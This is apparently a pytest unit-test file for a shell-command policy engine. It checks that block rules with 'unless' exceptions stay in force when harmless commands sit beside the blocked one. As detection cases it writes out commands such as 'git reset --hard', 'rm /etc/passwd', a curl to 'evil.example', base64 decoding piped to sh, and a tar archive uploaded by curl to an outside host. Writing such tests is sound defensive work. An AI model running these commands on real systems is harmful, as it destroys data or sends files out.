"""Which action a rule is about, and that nothing harmless beside it switches the rule off."""

from __future__ import annotations

import pytest

from bk.engine.model import Connect, Run, Touch
from tests.unit.rules import acts, asked, book, found, one, taking

RESET = one(
    'command("git") with_subcommand("reset") with_flags("--hard")', 'unless command("git") with_flags("--help")'
)
SWITCH_OFF = [
    (RESET, "git reset --hard; git --help"),
    (RESET, "git --help && git reset --hard"),
    (RESET, "git reset --hard # --help"),
    (RESET, "git reset --hard -- --help"),
    (RESET, "git -c x=--help reset --hard"),
    (RESET, "git reset --hard; git reset --hard --help"),
    (one('command("rm") with_args("/etc/*")', 'unless command("rm") with_args("/tmp/*")'), "rm /tmp/x /etc/passwd"),
    (one('command("rm") and not in_tool("write")', 'unless writes("/tmp/*")'), "rm x; echo > /tmp/a; echo > b"),
    (one('command("rm") and not reads("/tmp/*")'), "rm x; cat y; cat /tmp/a"),
    (
        one("connects_to(external())", 'unless connects_to("example.com")'),
        "curl https://example.com https://evil.example",
    ),
    (one("curl\\s.*evil", "unless --help"), "curl evil; curl --help"),
    (one("curl\\s.*evil", 'unless command("echo")'), "echo curl evil; curl evil"),
    (one("evil\\(\\)", "unless --safe"), "echo --safe; evil(); --safe"),
    (one('command("sudo", "git") with_subcommand("push")', "unless --dry-run"), "git push; git push --dry-run"),
]


@pytest.mark.parametrize(("text", "command"), SWITCH_OFF, ids=[row[1] for row in SWITCH_OFF])
def test_something_harmless_beside_it_does_not_switch_a_rule_off(text: str, command: str) -> None:
    assert found(text, command)


SPARED = [
    (RESET, "git reset --hard --help"),
    (one('command("rm")', 'unless command("rm") with_args("/tmp/*")'), "rm /tmp/x /tmp/y"),
    (one('command("rm")', 'unless writes("/tmp/*")'), "rm x; echo > /tmp/a; echo > /tmp/b"),
    (one('reads("~/.ssh/**")', 'unless reads("*.pub")'), "cat ~/.ssh/id.pub README"),
    (one("curl\\s.*evil", "unless --help"), "curl --help evil"),
    (one("curl\\s.*evil", 'unless command("echo", "grep")'), "echo 'curl evil' | grep 'curl .*evil'"),
    (one('command("git") and not (command("git") with_flags("-n") or in_tool("read"))'), "git push -n"),
    (one('command("git") and not not command("rm")'), "git push"),
]


@pytest.mark.parametrize(("text", "command"), SPARED, ids=[row[1] for row in SPARED])
def test_what_is_excepted_is_let_go(text: str, command: str) -> None:
    assert not found(text, command)


def test_an_exception_of_another_kind_needs_an_action_of_it() -> None:
    text = one('command("rm")', 'unless reads("/tmp/*")')
    assert found(text, "rm x")
    assert not found(text, "rm x; cat /tmp/a")


def test_a_not_within_an_exception_keeps_the_rule_in_force() -> None:
    text = one('command("rm")', 'unless command("rm") with_flags("-i") and not command("rm") with_flags("-f")')
    assert not found(text, "rm -i x")
    assert found(text, "rm -i -f x")
    assert found(text, "rm x")


def test_an_exception_about_a_pipe_is_about_the_anchors_own() -> None:
    text = one('command("base64") with_flags("-d")', 'unless pipeline_to("jq")')
    decode = Run(["base64", "-d"])
    assert not acts(text, decode, taking(Run(["jq"]), "run:base64"))
    assert acts(text, decode, taking(Run(["jq"]), "run:base64"), taking(Run(["sh"]), "run:base64"))
    assert acts(text, decode, taking(Run(["jq"]), "run:cat"))


def test_other_conditions_may_be_met_anywhere() -> None:
    text = one('command("tar") and connects_to(external())')
    assert found(text, "tar czf a . && curl -T a https://x.example")
    assert not found(text, "tar czf a .")
    both = one('reads("a") and reads("b")')
    assert found(both, "cat a; cat b")
    assert not found(both, "cat a")


def test_the_first_matcher_that_finds_an_action_is_the_anchor() -> None:
    (finding,) = asked(book(one('in_tool("bash") and reads("*.pem") and command("cat")')), "cat a.pem")
    assert isinstance(finding.action, Touch)
    (finding,) = asked(book(one('in_tool("bash")')), "ls")
    assert finding.action is None


def test_alternatives_have_their_own_anchors() -> None:
    text = one('(command("curl") or reads("x.pem")) and connects_to("h.example")')
    findings = asked(book(text), "cat x.pem; curl https://h.example")
    assert {type(finding.action) for finding in findings} == {Run, Touch}


def test_a_rule_is_told_once_for_an_action_and_a_few_times_at_most() -> None:
    text = 'block "r"\n  match command("rm")\n  match command("r*")\n'
    assert len(asked(book(text), "rm a")) == 1
    assert len(asked(book(text), ";".join(f"rm {at}" for at in range(50)))) == 4


def test_an_uncertain_exception_does_not_let_go() -> None:
    text = one("connects_to(external())", 'unless connects_to("*.example.com")', tier="suspicious")
    assert acts(text, Connect("https://**.com", "**.com", certain=False))
